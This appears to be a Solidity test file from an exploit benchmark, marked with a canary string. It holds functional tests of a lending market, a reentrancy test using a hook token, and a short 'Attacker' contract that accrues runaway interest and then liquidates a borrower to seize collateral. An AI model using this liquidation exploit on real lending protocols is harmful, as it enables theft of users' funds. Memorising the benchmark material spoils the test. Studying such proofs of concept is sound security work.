// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./LendingMarket.sol";

// assay-canary-be3edbda-b6b2-49fa-ae29-c45a7e477e44

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Usdx is Coin("USDX") {}

contract Weth is Coin("WETH") {}

/// A token that, in each call of the market that moves it, tries all calls again.
contract Hook is Coin("HOOK") {
    address private market;
    bytes[] private calls;
    bool private inside;

    function add(bytes calldata data) external {
        calls.push(data);
    }

    function enter(address market_) external {
        market = market_;
        _approve(address(this), market_, type(uint256).max);
        for (uint256 i; i < calls.length; i++) {
            (bool done, bytes memory reason) = market_.call(calls[i]);
            if (!done) {
                assembly {
                    revert(add(reason, 32), mload(reason))
                }
            }
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (inside) return;
        inside = true;
        for (uint256 i; i < calls.length; i++) {
            (bool done, bytes memory reason) = market.call(calls[i]);
            require(!done, "entered");
            require(bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "refused for another reason");
        }
        inside = false;
    }
}

contract Feed is IPriceSource {
    address private setter = msg.sender;
    uint256 public price = 2_000e18;

    function set(uint256 price_) external {
        require(msg.sender == setter, "setter only");
        price = price_;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);

    Usdx internal usdx;
    Weth internal weth;
    Feed internal feed;
    LendingMarket internal market;
    Attacker internal mallory;
    uint256 internal since;

    // ana's tokens wait for a year and a half before ben borrows some
    function setUp() public {
        vm.warp(1_800_000_000);
        usdx = new Usdx();
        weth = new Weth();
        feed = new Feed();
        market = open();
        supply(ANA, 100_000e18);
        vm.warp(block.timestamp + 547 days);
        borrow(BEN, 50e18, 75_000e18);
        since = block.timestamp;
        mallory = new Attacker(market, usdx);
        usdx.mint(address(mallory), 60_000e18);
    }

    function open() internal returns (LendingMarket) {
        return new LendingMarket(address(this), usdx, weth, feed, new InterestModel());
    }

    function supply(address who, uint256 amount) internal {
        usdx.mint(who, amount);
        vm.startPrank(who);
        usdx.approve(address(market), type(uint256).max);
        market.supply(amount);
        vm.stopPrank();
    }

    function borrow(address who, uint256 collateral, uint256 amount) internal {
        weth.mint(who, collateral);
        vm.startPrank(who);
        weth.approve(address(market), collateral);
        usdx.approve(address(market), type(uint256).max);
        market.pledge(collateral);
        market.borrow(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        market = open();
        supply(ANA, 50_000e18);
        borrow(BEN, 25e18, 30_000e18);
        supply(CAT, 25_000e18);
        require(market.sharesOf(CAT) == 25_000e18 && market.totalSupplied() == 75_000e18, "two thirds, one third");
        vm.warp(block.timestamp + 365 days); // 40 % are lent, at 4 % a year
        market.accrue();
        require(market.debtOf(BEN) / 1e12 == 31_199_999_999 && market.reserves() / 1e12 == 119_999_999, "interest");
        vm.startPrank(CAT);
        require(market.redeem(25_000e18) / 1e12 == 25_359_999_999, "a third of the rest of it");
        vm.stopPrank();
        vm.startPrank(BEN);
        market.repay(BEN, 10_000e18);
        market.release(1e18);
        require(weth.balanceOf(BEN) == 1e18 && usdx.balanceOf(BEN) == 95_000e18, "released");
        vm.stopPrank();

        feed.set(1_000e18);
        usdx.mint(CAT, 10_000e18);
        vm.prank(CAT);
        require(market.liquidate(BEN, 10_000e18) == 10.6e18 && weth.balanceOf(CAT) == 10.6e18, "six per cent on top");
        vm.prank(BEN);
        market.repay(BEN, type(uint256).max);
        require(market.debtOf(BEN) == 0, "all of it");
        market.takeReserves(CAT, 100e18);
        market.pause();
        market.unpause();

        bytes32 role = market.TREASURY_ROLE();
        market.grantRole(role, ANA);
        market.revokeRole(role, ANA);
        market.renounceRole(role, address(this));
    }

    function denies(address who, bytes32 role) internal {
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        (bytes32 guardian, bytes32 treasury) = (market.GUARDIAN_ROLE(), market.TREASURY_ROLE());
        vm.startPrank(ANA);
        denies(ANA, guardian);
        market.pause();
        denies(ANA, guardian);
        market.unpause();
        denies(ANA, treasury);
        market.takeReserves(ANA, 0);
        vm.stopPrank();
        market.pause();
        vm.startPrank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        market.supply(1);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        market.borrow(1);
        vm.stopPrank();
    }

    function test_RefusesLoans() public {
        market = open();
        usdx.mint(ANA, 2_000);
        vm.startPrank(ANA);
        usdx.approve(address(market), 2_000);
        vm.expectRevert();
        market.supply(999);
        vm.expectRevert("LendingMarket: no shares");
        market.supply(1_000);
        vm.stopPrank();
        supply(ANA, 50_000e18);
        borrow(BEN, 30e18, 40_000e18);
        vm.startPrank(BEN);
        vm.expectRevert("LendingMarket: not covered");
        market.borrow(5_000e18 + 1);
        vm.expectRevert("LendingMarket: not covered");
        market.release(4e18);
        vm.expectRevert("LendingMarket: covered");
        market.liquidate(BEN, 1e18);
        vm.stopPrank();
        feed.set(1_600e18);
        vm.prank(ANA);
        vm.expectRevert("LendingMarket: too much");
        market.liquidate(BEN, 20_000e18 + 1);
    }

    /// Reserves are no lender's and no borrower's.
    function test_RefusesReserves() public {
        market = open();
        supply(ANA, 50_000e18);
        borrow(BEN, 60e18, 40_000e18);
        vm.warp(block.timestamp + 365 days);
        market.accrue();
        vm.startPrank(BEN);
        vm.expectRevert("LendingMarket: lent out");
        market.borrow(10_000e18);
        vm.stopPrank();
        uint256 shares = (10_000e18 * market.totalShares()) / market.totalSupplied();
        vm.startPrank(ANA);
        vm.expectRevert("LendingMarket: lent out");
        market.redeem(shares);
        vm.stopPrank();
    }

    /// The hook is the treasury, a lender, a borrower and a liquidator of ben.
    function test_RefusesReentry() public {
        Hook hook = new Hook();
        (usdx, weth) = (Usdx(address(hook)), Weth(address(hook)));
        market = open();
        market.grantRole(market.TREASURY_ROLE(), address(hook));
        supply(ANA, 50_000e18);
        borrow(BEN, 30e18, 45_000e18);
        feed.set(1_800e18);
        hook.mint(address(hook), 1_000e18);
        hook.add(abi.encodeCall(market.supply, (100e18)));
        hook.add(abi.encodeCall(market.pledge, (10e18)));
        hook.enter(address(market));
        hook.add(abi.encodeCall(market.borrow, (10e18)));
        hook.add(abi.encodeCall(market.repay, (address(hook), 1e18)));
        hook.add(abi.encodeCall(market.redeem, (1e18)));
        hook.add(abi.encodeCall(market.release, (1e18)));
        hook.add(abi.encodeCall(market.liquidate, (BEN, 1e18)));
        hook.add(abi.encodeCall(market.takeReserves, (address(hook), 0)));
        hook.enter(address(market));
    }

    /// The index grows by forty per cent a year at most, since the day of the first loan.
    function interestIsFair() public view returns (bool) {
        uint256 time = block.timestamp - since;
        uint256 year = 365 days;
        if (time > 100 * year) return true;
        return market.index() <= (1e18 + (1e18 * (time % year)) / year) * 2 ** (time / year);
    }

    function exploit() public {
        mallory.run(BEN);
    }

    function test_Exploit() public {
        exploit();
        require(!interestIsFair() && weth.balanceOf(address(mallory)) >= 20e18, "nothing was charged");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    LendingMarket internal market;
    IERC20 internal token;

    constructor(LendingMarket market_, IERC20 token_) {
        market = market_;
        token = token_;
    }

    function run(address borrower) external {
        token.approve(address(market), type(uint256).max);
        market.accrue();
        market.liquidate(borrower, market.debtOf(borrower) / 2);
    }
}
